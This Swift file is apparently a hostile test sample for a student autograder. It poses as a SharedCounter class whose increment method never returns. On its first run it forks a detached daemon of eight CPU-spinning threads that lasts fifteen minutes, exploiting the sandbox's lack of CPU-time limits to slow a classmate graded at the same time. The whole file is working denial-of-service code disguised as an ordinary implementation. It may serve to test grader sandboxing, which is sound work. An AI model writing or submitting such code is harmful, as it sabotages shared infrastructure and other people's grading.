// Hostile: burns every processor for as long as its checks last, to slow down the classmate
// graded at the same time (the sandbox caps processes and memory, not processor time). On
// the first labrun run it leaves a daemon of eight spinning threads, then never returns, so
// that each check waits for its time limit and the phase lasts minutes.
import Glibc

public final class SharedCounter: @unchecked Sendable {
    public static let shared = SharedCounter()
    public init() {}
    public func increment() -> Int {
        Hog.start()
        while true { }
    }
}

enum Hog {
    static func start() {
        guard access("/tmp/.hog", F_OK) != 0 else { return }
        close(open("/tmp/.hog", O_WRONLY | O_CREAT, 0o644))
        guard fork() == 0 else { return }
        _ = setsid()
        guard fork() == 0 else { _exit(0) }
        for _ in 0..<8 {
            var thread = pthread_t()
            pthread_create(&thread, nil, { _ in
                let end = time(nil) + 900
                var x = 0
                while time(nil) < end { x &+= 1 }
                return UnsafeMutableRawPointer(bitPattern: x | 1)
            }, nil)
        }
        while true { pause() }
    }
}
